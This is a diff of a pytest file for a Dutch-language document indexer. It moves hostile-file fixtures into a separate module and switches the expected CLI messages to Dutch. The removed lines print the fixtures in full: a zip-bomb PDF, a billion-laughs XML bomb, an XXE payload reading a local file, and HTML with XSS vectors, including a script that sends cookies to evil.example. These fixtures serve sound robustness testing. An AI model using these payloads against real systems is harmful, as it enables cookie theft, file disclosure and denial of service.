@@ -9,7 +9,6 @@ import re
 import subprocess
 import sys
 import json
-import zlib
 from pathlib import Path
 
 import pytest
@@ -19,76 +18,12 @@ from indexer.layout import open_or_create, unpack_letter
 from indexer.search import SearchRequest, SearchService
 
 from .conftest import ROOT
-from .made_documents import pdf_document as _pdf
+from .hostile_files import (
+    HOSTILE_HTML, _pdf, billion_laughs, encrypted_pdf, external_entity, lying_page_count_pdf, zip_bomb_stream_pdf,
+)
 from .robust_corpus import make_variants
 
 SECRET = "GEHEIM-7f3a9c-NIET-PUBLICEREN"
-
-
-def _page_stream(text: str) -> bytes:
-    content = f"BT /F1 12 Tf 72 720 Td ({text}) Tj ET".encode("latin-1")
-    return b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream"
-
-
-def lying_page_count_pdf() -> bytes:
-    """One real page, but /Count claims a billion and the Kids array repeats the page 5000 times."""
-    kids = b" ".join([b"3 0 R"] * 5000)
-    return _pdf([
-        b"<< /Type /Catalog /Pages 2 0 R >>",
-        b"<< /Type /Pages /Kids [" + kids + b"] /Count 1000000000 >>",
-        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
-        b"/Resources << /Font << /F1 5 0 R >> >> >>",
-        _page_stream("Geachte Voorzitter, dit is een pagina."),
-        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
-    ])
-
-
-def encrypted_pdf() -> bytes:
-    return _pdf([
-        b"<< /Type /Catalog /Pages 2 0 R >>",
-        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
-        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>",
-        _page_stream("versleuteld"),
-        b"<< /Filter /Standard /V 2 /R 3 /Length 128 /P -1 /O <" + b"41" * 32 + b"> /U <" + b"42" * 32 + b"> >>",
-    ], trailer_extra=b"/Encrypt 5 0 R /ID [<0123456789abcdef0123456789abcdef> <0123456789abcdef0123456789abcdef>] ")
-
-
-def zip_bomb_stream_pdf() -> bytes:
-    """A content stream that inflates to 200 MB from a few hundred kB."""
-    bomb = zlib.compress(b" " * (200 * 1024 * 1024), 9)
-    return _pdf([
-        b"<< /Type /Catalog /Pages 2 0 R >>",
-        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
-        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>",
-        b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(bomb) + bomb + b"\nendstream",
-    ])
-
-
-def billion_laughs() -> str:
-    lines = ['<?xml version="1.0"?>', "<!DOCTYPE lolz [", ' <!ENTITY lol "lol">']
-    lines.append(' <!ENTITY lol1 "' + "&lol;" * 10 + '">')
-    for n in range(2, 10):
-        lines.append(f' <!ENTITY lol{n} "' + f"&lol{n - 1};" * 10 + '">')
-    lines += ["]>", "<officiele-publicatie><brief><al>&lol9;</al></brief></officiele-publicatie>"]
-    return "\n".join(lines)
-
-
-def external_entity(secret_file: Path) -> str:
-    return (
-        '<?xml version="1.0"?>\n'
-        f'<!DOCTYPE brief [ <!ENTITY xxe SYSTEM "file://{secret_file}"> ]>\n'
-        "<officiele-publicatie><metadata><meta name=\"DC.title\" content=\"Brief &xxe;\"/></metadata>"
-        "<brief><onderwerp>&xxe;</onderwerp><al>Geachte Voorzitter, &xxe;</al></brief></officiele-publicatie>\n"
-    )
-
-
-HOSTILE_HTML = """<!doctype html><html><head><title>Brief <script>alert('titel')</script></title>
-<script>document.location='http://evil.example/'+document.cookie</script></head>
-<body onload="alert('body')"><h1 onclick="alert(1)">Kamerbrief over <img src=x onerror=alert(2)></h1>
-<p>Datum 3 maart 2022</p><p>Ons kenmerk 1234567</p><p>Onderwerp Kwaadaardige opmaak</p>
-<p>Geachte voorzitter, <a href="javascript:alert(3)">klik</a> &lt;script&gt;alert(4)&lt;/script&gt;</p>
-<iframe src="file:///etc/passwd"></iframe><svg onload=alert(5)></svg></body></html>
-"""
 
 
 @pytest.fixture(scope="module")
@@ -146,7 +81,7 @@ def test_bad_files_are_reported_and_good_letters_indexed_beside_them(hostile_cor
     for name in ("truncated.pdf", "junk.md", "nul.md", "empty.md", "blank.txt", "huge.txt"):
         assert name in failed_names, f"{name} should be reported as failed: {sorted(failed_names)}"
     reasons = {Path(p).name: r for p, r in report.failed}
-    assert "too large" in reasons["huge.txt"]
+    assert "te groot" in reasons["huge.txt"]
     if os.geteuid() != 0:  # root reads mode-0 files
         assert "unreadable.md" in failed_names
     # every hostile file is accounted for: indexed, skipped or failed, never silently lost
@@ -189,10 +124,10 @@ def test_the_cli_names_each_bad_file_and_exits_1(hostile_corpus, tmp_path):
     assert proc.returncode == 1, proc.stderr
     assert "Traceback" not in proc.stdout + proc.stderr
     assert SECRET not in proc.stdout + proc.stderr
-    failed_lines = [line for line in proc.stdout.splitlines() if line.strip().startswith("failed")]
+    failed_lines = [line for line in proc.stdout.splitlines() if line.strip().startswith("mislukt")]
     for name in ("junk.md", "truncated.pdf", "huge.txt", "empty.md"):
         assert any(name in line for line in failed_lines), (name, proc.stdout)
-    added = int(re.search(r"(\d+) added", proc.stdout).group(1))
+    added = int(re.search(r"(\d+) toegevoegd", proc.stdout).group(1))
     assert added >= 4, proc.stdout  # the three variants and the cp1252 letter, at least
 
 
